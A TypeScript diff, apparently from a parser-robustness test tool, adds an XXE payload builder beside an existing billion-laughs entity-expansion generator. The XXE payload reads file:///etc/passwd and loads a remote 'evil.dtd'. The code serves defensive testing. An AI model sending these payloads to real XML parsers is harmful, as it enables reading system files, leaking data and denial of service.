@@ -16,6 +16,8 @@ export function hostileBody(kind: HostileKind, xml: XmlElement, enormousBytes: n
     }
     case 'entity-expansion':
       return billionLaughs(xml.name);
+    case 'external-entity':
+      return externalEntity(xml.name);
     case 'enormous':
       return enormousDocument(xml.name, enormousBytes);
     case 'unexpected-elements':
@@ -28,6 +30,18 @@ function billionLaughs(rootName: string): string {
   const levels = ['<!ENTITY lol0 "lol">'];
   for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
   return `<?xml version="1.0"?><!DOCTYPE ${rootName} [${levels.join('')}]><${rootName}><Name>&lol9;</Name></${rootName}>`;
+}
+
+/**
+ * XXE: an entity whose value is a local file (and a parameter entity fetching a remote DTD). A parser
+ * that resolves it would put the file's content, or a request to the attacker, into the result.
+ */
+function externalEntity(rootName: string): string {
+  return (
+    `<?xml version="1.0"?><!DOCTYPE ${rootName} [<!ENTITY xxe SYSTEM "file:///etc/passwd">` +
+    `<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">%remote;]>` +
+    `<${rootName}><FirstName>&xxe;</FirstName></${rootName}>`
+  );
 }
 
 /** A well-formed but huge document, streamed so the simulator never holds it in memory. */
